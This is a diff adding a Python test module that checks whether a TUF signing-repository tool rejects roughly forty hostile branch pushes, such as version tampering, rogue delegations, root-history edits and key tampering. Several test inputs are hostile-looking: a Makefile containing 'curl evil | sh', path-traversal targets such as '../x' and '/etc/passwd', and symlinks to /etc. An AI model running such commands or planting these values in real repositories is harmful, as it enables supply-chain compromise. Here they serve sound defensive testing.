@@ -1,0 +1,492 @@
+"""Hostile signing events: branches an attacker with push access to sign/* (but
+no offline keys) could create.  Each must be rejected by `status` (exit 4)
+with the specific finding; honest events of the same shape must pass.
+
+One repository is built per module (root and targets signed by @alice, a
+delegated role `releases`, artifacts in both) and each scenario is a branch.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import unicodedata
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import _CLEARED_ENV, _ISOLATED_ENV, NOW, World, git, init_repo
+
+EXPIRES_OK = (NOW + timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+@dataclass
+class Base:
+    world: World
+    attacker: Path
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Base]:
+    tmp = tmp_path_factory.mktemp("hostile")
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("HOME", str(tmp))
+        mp.setenv("GIT_CONFIG_GLOBAL", str(tmp / ".gitconfig"))
+        for key, value in _ISOLATED_ENV.items():
+            mp.setenv(key, value)
+        for key in _CLEARED_ENV:
+            mp.delenv(key, raising=False)
+        world = _build(tmp)
+        yield Base(world, world.root / "attacker")
+
+
+def _build(tmp: Path) -> World:
+    root = tmp / "world"
+    (root / "keys").mkdir(parents=True)
+    from securesystemslib.signer import CryptoSigner  # noqa: PLC0415
+
+    (root / "keys" / "online.pem").write_bytes(CryptoSigner.generate_ed25519().private_bytes)
+    git(root, "init", "-q", "--bare", "-b", "main", "origin.git")
+    git(root, "clone", "-q", "origin.git", "ci")
+    (root / "ci" / "README.md").write_text("repo\n")
+    git(root / "ci", "add", "README.md")
+    git(root / "ci", "commit", "-q", "-m", "init")
+    git(root / "ci", "push", "-q", "origin", "main")
+    world = World(root)
+    alice = world.user("alice")
+    assert init_repo(world, alice).exit_code == 0
+    world.merge("sign/init")
+    assert (
+        alice.tufrepo("delegate", "sign/deleg", "releases", "--key", alice.key_uri).exit_code == 0
+    )
+    world.merge("sign/deleg")
+    git(alice.clone, "fetch", "-q")
+    git(alice.clone, "switch", "-q", "-c", "sign/files", "origin/main")
+    (alice.clone / "targets" / "releases").mkdir(parents=True)
+    (alice.clone / "targets" / "top.txt").write_text("top\n")
+    (alice.clone / "targets" / "releases" / "a.txt").write_text("a\n")
+    git(alice.clone, "add", "targets")
+    git(alice.clone, "commit", "-q", "-m", "files")
+    git(alice.clone, "push", "-q", "origin", "sign/files")
+    git(alice.clone, "switch", "-q", "main")
+    assert world.ci_run("update-targets", "--push", event="sign/files").exit_code == 0
+    assert alice.sign("sign/files").exit_code == 0
+    assert world.status("sign/files")[0] == 0
+    world.merge("sign/files")
+    assert world.ci_run("online-sign", "--push").exit_code == 0
+    git(root, "clone", "-q", "origin.git", "attacker")
+    return world
+
+
+# --- helpers for editing metadata as an attacker would (no keys) ---------------
+
+
+def load(clone: Path, role: str) -> dict[str, Any]:
+    data: dict[str, Any] = json.loads((clone / "metadata" / f"{role}.json").read_text())
+    return data
+
+
+def save(clone: Path, role: str, data: dict[str, Any], *, bump: bool = True) -> None:
+    if bump:
+        data["signed"]["version"] += 1
+        data["signed"]["expires"] = EXPIRES_OK
+        for sig in data["signatures"]:
+            sig["sig"] = ""
+    text = json.dumps(data, indent=1, sort_keys=True)
+    (clone / "metadata" / f"{role}.json").write_text(text)
+    if role == "root":
+        version = data["signed"]["version"]
+        (clone / "metadata" / "root_history" / f"{version}.root.json").write_text(text)
+
+
+def edit(
+    role: str, change: Callable[[dict[str, Any]], None], *, bump: bool = True
+) -> Callable[[Path], None]:
+    def apply(clone: Path) -> None:
+        data = load(clone, role)
+        change(data["signed"])
+        save(clone, role, data, bump=bump)
+
+    return apply
+
+
+def write(path: str, content: bytes) -> Callable[[Path], None]:
+    def apply(clone: Path) -> None:
+        (clone / path).parent.mkdir(parents=True, exist_ok=True)
+        (clone / path).write_bytes(content)
+
+    return apply
+
+
+def chain(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
+    def apply(clone: Path) -> None:
+        for step in steps:
+            step(clone)
+
+    return apply
+
+
+def _set(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
+    return lambda signed: signed.__setitem__(key, value)
+
+
+def _add_target(path: str, content: bytes) -> Callable[[Path], None]:
+    import hashlib  # noqa: PLC0415
+
+    def apply(clone: Path) -> None:
+        role = "releases" if path.startswith("releases/") else "targets"
+        data = load(clone, role)
+        data["signed"]["targets"][path] = {
+            "length": len(content),
+            "hashes": {"sha256": hashlib.sha256(content).hexdigest()},
+        }
+        save(clone, role, data)
+
+    return apply
+
+
+def _delegation(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
+    return lambda signed: change(signed["delegations"]["roles"][0])
+
+
+def _root_keyid_tamper(signed: dict[str, Any]) -> None:
+    keys = signed["keys"]
+    old = next(k for k, v in keys.items() if "x-tuf-on-ci-keyowner" in v)
+    keys["f" * 64] = keys.pop(old)
+    for role in signed["roles"].values():
+        role["keyids"] = ["f" * 64 if k == old else k for k in role["keyids"]]
+
+
+def _online_key_scheme(signed: dict[str, Any]) -> None:
+    keyid = signed["roles"]["timestamp"]["keyids"][0]
+    signed["keys"][keyid]["scheme"] = "rsa-pkcs1v15-sha1"
+
+
+def _stray_signature(clone: Path) -> None:
+    data = load(clone, "targets")
+    data["signatures"].append({"keyid": "e" * 64, "sig": ""})
+    save(clone, "targets", data)
+
+
+def _remove_history(clone: Path) -> None:
+    (clone / "metadata" / "root_history" / "1.root.json").unlink()
+
+
+def _history_gap(clone: Path) -> None:
+    data = load(clone, "root")
+    data["signed"]["version"] = 2
+    data["signed"]["expires"] = EXPIRES_OK
+    text = json.dumps(data, indent=1, sort_keys=True)
+    (clone / "metadata" / "root.json").write_text(text)
+    (clone / "metadata" / "root_history" / "3.root.json").write_text(text)
+
+
+def _history_differs(clone: Path) -> None:
+    edit("root", _set("x-note", "a"))(clone)
+    path = clone / "metadata" / "root_history" / "2.root.json"
+    path.write_text(path.read_text().replace('"x-note": "a"', '"x-note": "b"'))
+
+
+def _new_root_without_history(clone: Path) -> None:
+    edit("root", _set("x-note", "a"))(clone)
+    (clone / "metadata" / "root_history" / "2.root.json").unlink()
+
+
+def _symlink(name: str, to: str) -> Callable[[Path], None]:
+    def apply(clone: Path) -> None:
+        (clone / "targets" / name).symlink_to(to)
+
+    return apply
+
+
+def _nested(signed: dict[str, Any]) -> None:
+    signed["delegations"] = {
+        "keys": {},
+        "roles": [
+            {
+                "name": "sub",
+                "keyids": [],
+                "threshold": 1,
+                "terminating": True,
+                "paths": ["releases/sub/*"],
+            }
+        ],
+    }
+
+
+def _copy(src: str, dst: str) -> Callable[[Path], None]:
+    def apply(clone: Path) -> None:
+        shutil.copyfile(clone / src, clone / dst)
+
+    return apply
+
+
+SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {
+    # version rules
+    "root-version-plus-two": (
+        edit("root", lambda s: s.update(version=s["version"] + 1)),
+        "version",
+    ),
+    "root-payload-same-version": (edit("root", _set("x-note", "changed"), bump=False), "version"),
+    "targets-version-down": (
+        edit("targets", lambda s: s.update(version=s["version"] - 2)),
+        "version",
+    ),
+    "targets-version-plus-two": (
+        edit("targets", lambda s: s.update(version=s["version"] + 1)),
+        "version",
+    ),
+    "delegated-payload-same-version": (
+        edit("releases", _set("x-note", "x"), bump=False),
+        "version",
+    ),
+    "online-threshold-same-version": (
+        edit("root", lambda s: s["roles"]["timestamp"].update(threshold=2), bump=False),
+        "version",
+    ),
+    # expiry and periods
+    "expiry-too-far": (
+        chain(
+            edit("targets", lambda s: None),
+            edit("targets", _set("expires", "2036-01-01T00:00:00Z"), bump=False),
+        ),
+        "expiry-too-far",
+    ),
+    "expired": (
+        chain(
+            edit("targets", lambda s: None),
+            edit("targets", _set("expires", "2026-11-01T00:00:00Z"), bump=False),
+        ),
+        "expired",
+    ),
+    "expiry-period-zero": (edit("targets", _set("x-tuf-on-ci-expiry-period", 0)), "periods"),
+    "expiry-period-string": (edit("targets", _set("x-tuf-on-ci-expiry-period", "365")), "periods"),
+    "signing-period-not-shorter": (
+        edit("targets", _set("x-tuf-on-ci-signing-period", 400)),
+        "periods",
+    ),
+    "online-periods-insane": (
+        edit("root", lambda s: s["roles"]["timestamp"].update({"x-tuf-on-ci-signing-period": 5})),
+        "online-periods",
+    ),
+    # online files
+    "snapshot-changed": (edit("snapshot", lambda s: None), "online-role-changed"),
+    "timestamp-changed": (
+        edit("timestamp", _set("expires", "2030-01-01T00:00:00Z"), bump=False),
+        "online-role-changed",
+    ),
+    "consistent-snapshot-off": (
+        edit("root", _set("consistent_snapshot", False)),
+        "consistent-snapshot",
+    ),
+    "online-signers-differ": (
+        edit("root", lambda s: s["roles"]["snapshot"].update(threshold=2)),
+        "online-signers",
+    ),
+    # root_history
+    "history-modified": (write("metadata/root_history/1.root.json", b"{}"), "root-history"),
+    "history-removed": (_remove_history, "root-history"),
+    "history-missing-new-root": (_new_root_without_history, "root-history"),
+    "history-differs-from-root": (_history_differs, "root-history"),
+    "history-gap": (_history_gap, "root-history"),
+    # delegations
+    "role-without-delegation": (
+        _copy("metadata/releases.json", "metadata/rogue.json"),
+        "not-delegated",
+    ),
+    "delegation-without-role-file": (
+        edit(
+            "targets",
+            lambda s: s["delegations"]["roles"].append(
+                {
+                    "name": "ghost",
+                    "keyids": [],
+                    "threshold": 1,
+                    "terminating": True,
+                    "paths": ["ghost/*"],
+                }
+            ),
+        ),
+        "missing-role-file",
+    ),
+    "delegation-keys-changed-not-resigned": (
+        edit("targets", _delegation(lambda r: r.update(keyids=[]))),
+        "delegation-not-resigned",
+    ),
+    "delegation-paths-changed-not-resigned": (
+        edit("targets", _delegation(lambda r: r.update(paths=["*"]))),
+        "delegation-not-resigned",
+    ),
+    "delegation-threshold-changed-not-resigned": (
+        edit("targets", _delegation(lambda r: r.update(threshold=2))),
+        "delegation-not-resigned",
+    ),
+    "nested-delegation": (edit("releases", _nested), "nested-delegation"),
+    "unsafe-role-name": (
+        edit("targets", _delegation(lambda r: r.update(name="../evil"))),
+        "unsafe-role-name",
+    ),
+    # targets
+    "listed-without-file": (_add_target("ghost.txt", b"ghost\n"), "targets-mismatch"),
+    "file-not-listed": (write("targets/extra.txt", b"extra\n"), "targets-mismatch"),
+    "file-does-not-match": (write("targets/top.txt", b"tampered\n"), "targets-mismatch"),
+    "path-outside-delegation": (
+        _add_target("releases/../top.txt", b"top\n"),
+        "unsafe-target-path",
+    ),
+    "delegated-lists-foreign-path": (
+        edit(
+            "releases",
+            lambda s: s["targets"].update(
+                {"other/x.txt": {"length": 1, "hashes": {"sha256": "00" * 32}}}
+            ),
+        ),
+        "path-outside-delegation",
+    ),
+    "dotdot-path": (
+        edit(
+            "targets",
+            lambda s: s["targets"].update(
+                {"../x": {"length": 1, "hashes": {"sha256": "00" * 32}}}
+            ),
+        ),
+        "unsafe-target-path",
+    ),
+    "absolute-path": (
+        edit(
+            "targets",
+            lambda s: s["targets"].update(
+                {"/etc/passwd": {"length": 1, "hashes": {"sha256": "00" * 32}}}
+            ),
+        ),
+        "unsafe-target-path",
+    ),
+    "backslash-path": (
+        edit(
+            "targets",
+            lambda s: s["targets"].update(
+                {"a\\b": {"length": 1, "hashes": {"sha256": "00" * 32}}}
+            ),
+        ),
+        "unsafe-target-path",
+    ),
+    "symlink-file": (_symlink("link.txt", "/etc/passwd"), "artifact-file"),
+    "symlink-dir": (_symlink("linkdir", "/etc"), "artifact-file"),
+    "case-collision": (chain(write("targets/Top.txt", b"top\n")), "path-collision"),
+    "unicode-collision": (
+        chain(
+            write("targets/caf\u00e9.txt", b"1"),
+            write(unicodedata.normalize("NFD", "targets/caf\u00e9.txt"), b"2"),
+        ),
+        "path-collision",
+    ),
+    # keys
+    "keyid-not-hash": (edit("root", _root_keyid_tamper), "keyid"),
+    "unsupported-key-scheme": (edit("root", _online_key_scheme), "key-type"),
+    "stray-empty-signature": (_stray_signature, "stray-signature"),
+    # files outside metadata/ and targets/
+    "workflow-change": (write(".github/workflows/evil.yml", b"on: push\n"), "outside-change"),
+    "makefile-change": (write("Makefile", b"all:\n\tcurl evil | sh\n"), "outside-change"),
+    # malformed
+    "malformed-json": (write("metadata/targets.json", b"{"), "malformed"),
+    "wrong-type": (
+        lambda c: shutil.copy(c / "metadata" / "root.json", c / "metadata" / "targets.json"),
+        "malformed",
+    ),
+    "huge-file": (write("metadata/releases.json", b" " * (17 * 1024 * 1024)), "malformed"),
+    "deeply-nested": (write("metadata/releases.json", b"[" * 100000 + b"]" * 100000), "malformed"),
+}
+
+
+def _push_event(base: Base, name: str, mutate: Callable[[Path], None]) -> str:
+    clone = base.attacker
+    event = f"sign/hostile-{name}"
+    git(clone, "fetch", "-q", "--prune")
+    git(clone, "checkout", "-q", "-f", "-B", event, "origin/main")
+    git(clone, "clean", "-q", "-f", "-d", "-x")
+    mutate(clone)
+    git(clone, "add", "-A")
+    git(clone, "commit", "-q", "-m", f"hostile: {name}")
+    git(clone, "push", "-q", "-f", "origin", event)
+    return event
+
+
+@pytest.mark.parametrize("name", sorted(SCENARIOS))
+def test_hostile_event_is_rejected(base: Base, name: str) -> None:
+    mutate, code = SCENARIOS[name]
+    event = _push_event(base, name, mutate)
+    exit_code, status = base.world.status(event)
+    codes = sorted({f["code"] for f in status["findings"]})
+    assert exit_code == 4, (name, status)
+    assert code in codes, (name, codes, status["findings"])
+
+
+def test_stale_event_is_rejected(base: Base) -> None:
+    world = base.world
+    event = _push_event(base, "stale", write("targets/new.txt", b"new\n"))
+    assert world.ci_run("update-targets", "--push", event=event).exit_code == 0
+    # meanwhile an honest change to targets lands on main
+    alice = world.users["alice"]
+    assert alice.tufrepo("delegate", "sign/honest-ts", "targets", "--expiry", "300",
+                         "--key", alice.key_uri).exit_code == 0  # fmt: skip
+    world.merge("sign/honest-ts")
+    exit_code, status = world.status(event)
+    assert exit_code == 4
+    assert "stale-event" in {f["code"] for f in status["findings"]}
+    git(world.ci, "checkout", "-q", "main")
+
+
+def test_there_are_at_least_forty_scenarios() -> None:
+    assert len(SCENARIOS) + 1 >= 40
+
+
+# --- honest events of the same shapes pass ------------------------------------------
+
+
+def test_honest_artifact_change_passes(base: Base) -> None:
+    world, alice = base.world, base.world.users["alice"]
+    event = _push_event(base, "honest-artifacts", chain(
+        write("targets/top.txt", b"new top\n"), write("targets/releases/b/c.txt", b"c\n")))  # fmt: skip
+    assert world.ci_run("update-targets", "--push", event=event).exit_code == 0
+    assert alice.sign(event).exit_code == 0
+    code, status = world.status(event)
+    assert code == 0, status
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("releases", "--signer", "@alice", "--threshold", "1", "--path", "releases/*"),
+        ("timestamp", "--expiry", "7", "--signing-period", "6"),
+        ("targets", "--expiry", "200"),
+        ("newrole",),
+    ],
+    ids=["delegation-paths", "online-periods", "targets-periods", "new-delegation"],
+)
+def test_honest_delegation_change_passes(base: Base, args: tuple[str, ...]) -> None:
+    world, alice = base.world, base.world.users["alice"]
+    event = f"sign/honest-{args[0]}-{len(args)}"
+    result = alice.tufrepo("delegate", event, *args, "--key", alice.key_uri)
+    assert result.exit_code == 0, result.output
+    code, status = world.status(event)
+    assert code == 0, status
+
+
+def test_honest_delegation_removal_passes(base: Base) -> None:
+    world, alice = base.world, base.world.users["alice"]
+    event = "sign/honest-remove"
+    git(alice.clone, "fetch", "-q")
+    git(alice.clone, "switch", "-q", "-c", event, "origin/main")
+    shutil.rmtree(alice.clone / "targets" / "releases")
+    git(alice.clone, "commit", "-q", "-a", "-m", "remove releases artifacts")
+    git(alice.clone, "push", "-q", "origin", event)
+    git(alice.clone, "switch", "-q", "main")
+    assert (
+        alice.tufrepo("delegate", event, "releases", "--remove", "--key", alice.key_uri).exit_code
+        == 0
+    )
+    code, status = world.status(event)
+    assert code == 0, status
